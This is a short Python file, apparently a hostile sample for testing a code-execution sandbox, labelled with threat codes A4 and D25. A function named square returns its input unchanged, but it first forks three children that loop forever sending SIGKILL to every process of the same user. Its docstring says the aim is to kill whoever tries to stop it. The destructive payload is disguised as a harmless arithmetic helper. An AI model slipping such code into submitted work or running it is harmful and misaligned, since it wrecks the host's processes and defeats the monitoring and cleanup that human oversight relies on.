"""Leaves a process behind that kills whatever else gets its user, so that who comes to kill it is killed first.

Threat: A4, D25.
"""

import os
import signal


def square(x):
    for _ in range(3):
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.kill(-1, signal.SIGKILL)
                    except OSError:
                        pass
        except OSError:
            pass
    return x
